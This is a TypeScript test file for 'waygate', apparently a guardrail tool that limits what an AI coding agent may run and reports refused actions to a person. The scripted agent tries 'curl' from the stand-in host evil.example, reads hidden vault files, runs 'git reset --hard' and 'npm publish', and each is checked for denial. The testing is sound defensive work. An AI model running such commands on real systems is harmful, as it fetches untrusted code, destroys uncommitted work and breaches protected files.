/** Limits, handoff and report through the built program: one session that is refused, adapts, and leaves something open. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LIMITS_LENGTH } from '../../internal/view/limits.ts';
import { waygate } from '../support/cli.ts';
import { remove, type Sandbox, sandbox } from '../support/sandbox.ts';
import { type Reply, type Script, script } from '../support/script.ts';

let box: Sandbox;
let agent: Script;
let start: Reply;
beforeAll(() => {
  box = sandbox([
    'printf \'version: 1\\nnetwork: { allow: [api.example] }\\nprotected: { branches: [stable], paths: ["infra/**"], hidden: ["vault/**"] }\\nbudgets: { push: 3 }\\n\' > waygate.yaml',
    'mkdir vault',
    'echo plan > vault/plan.md',
    'git add waygate.yaml',
    'git commit -q -m policy',
    'echo edited >> src/app.ts',
  ]);
  agent = script(box);
  start = agent.event('SessionStart', { source: 'startup' });
});
afterAll(() => remove(box));

const json = (...args: string[]) => JSON.parse(waygate(box, [...args, '--json']).stdout);

describe('limits up front', () => {
  it('the agent reads what is in force here when its session starts', () => {
    for (const part of ['infra/**', 'skipping hooks', 'only api.example', 'push 3 of 3 left', 'stable', 'waygate request'])
      expect(start.agent).toContain(part);
    expect(start.agent).not.toContain('vault');
    expect(start.agent.length).toBeLessThanOrEqual(LIMITS_LENGTH);
  });

  it('`waygate describe limits` prints the same', () => {
    expect(waygate(box, ['describe', 'limits']).stdout).toContain(start.agent);
    expect(json('describe', 'limits').limits.map((each: { name: string }) => each.name)).toContain('network');
  });

  it('a sub-agent reads them as well, with what the session was refused', () => {
    agent.ask({ run: 'curl -sO https://evil.example/x' });
    const spawned = agent.event('SubagentStart', { agent_id: 'a1', agent_type: 'helper' });
    expect(spawned.agent).toContain('only api.example');
    expect(spawned.agent).toContain('network-unavailable: net.reach evil.example');
  });
});

describe('hidden targets', () => {
  it('read the same whether something lies there or not, by every tool, and are named nowhere', () => {
    const answers = [
      agent.ask({ run: 'cat vault/plan.md' }, { session_id: 'hidden-1' }),
      agent.ask({ run: 'cat vault/no-such.md' }, { session_id: 'hidden-2' }),
      agent.ask({ tool: 'Read', input: { file_path: '{{repo}}/vault/plan.md' } }, { session_id: 'hidden-3' }),
    ];
    expect(new Set(answers.map((each) => each.agent)).size).toBe(1);
    expect(answers[0]).toMatchObject({ verdict: 'deny', agent: expect.stringContaining('The target is not available in this run.') });
    expect(answers[0]!.agent).not.toContain('vault');
    expect(agent.log().filter((each) => each['boundary'] === 'target unavailable')).toHaveLength(3);
  });
});

describe('the account of a session', () => {
  it('one refusal is answered by its way on, another stays open', () => {
    const reset = agent.ask({ run: 'git reset --hard' });
    expect(reset.verdict).toBe('deny');
    const way = /Run instead: (.*)/.exec(reset.agent)![1]!;
    agent.done({ run: way }, agent.ask({ run: way }).id);
    expect(waygate(box, ['checkpoint', '--', 'src/app.ts']).code).toBe(0);
    const again = agent.ask({ run: 'git reset --hard' });
    expect(again.verdict, again.agent).toBe('pass');
    agent.done({ run: 'git reset --hard' }, again.id);
    expect(agent.ask({ run: 'npm publish' }).verdict).toBe('deny');
  });

  it('the person reads at Stop what is unresolved, once, and the agent is not kept from stopping', () => {
    const stop = agent.event('Stop', { stop_hook_active: false });
    expect(stop).toMatchObject({ code: 0, stopped: false, agent: '' });
    expect(stop.person).toMatch(/one refusal is unresolved: .*npm.* \(external-effect\).*waygate handoff/s);
    expect(agent.event('Stop', { stop_hook_active: false }).person).toBe('');
  });

  it('handoff: consequence, category, what was tried and came of it, what is kept, the owner, and the decisions', () => {
    const text = waygate(box, ['handoff', '--session', 'scripted']).stdout;
    for (const part of [
      'network-unavailable',
      'Asked for: npm publish',
      'nothing of it ran',
      'Owner: ',
      '## Kept',
      'checkpoint ',
      'src/app.ts',
      'the same call passed later',
      'policy: sha256:',
    ])
      expect(text).toContain(part);
    expect(text).not.toMatch(/tool failed|every route|exhausted|waygate grant/i);
    const { handoff } = json('handoff', '--session', 'scripted');
    const settled = handoff.settled.find((each: { category: string }) => each.category === 'work-loss');
    expect(settled).toMatchObject({ state: 'passed', tried: [expect.objectContaining({ result: 'it succeeded' })] });
    expect(handoff.appendix.decisions.every((each: { ids: string[] }) => each.ids.length > 0)).toBe(true);
  });

  it('report: containment beside adaptation, no single score', () => {
    const { report } = json('report');
    expect(report.containment.byCategory).toContainEqual({ name: 'work-loss', count: 1 });
    expect(report.containment.refused).toBeGreaterThanOrEqual(5);
    expect(report.adaptation).toMatchObject({ remediesTaken: 1, reached: 1, stops: 0 });
    expect(report.owner).toMatchObject({ handoffs: 1, interrupted: 1 });
    expect(report.cost.refusedCalls).toBe(report.containment.refused);
    expect(JSON.stringify(report)).not.toMatch(/score/i);
    const text = waygate(box, ['report', '--since', '1d']).stdout;
    expect(text).toMatch(/Contained +Adapted/);
    expect(json('report', '--since', '2999-01-01').report.calls).toBe(0);
  });

  it.each([
    [['handoff', '--session', 'nobody'], 1, 'no record of a session'],
    [['report', '--since', 'tomorrow'], 2, 'neither a date nor an age'],
  ])('%j says what is wrong', (args, code, message) => {
    expect(waygate(box, args)).toMatchObject({ code, stderr: expect.stringContaining(message) });
  });
});
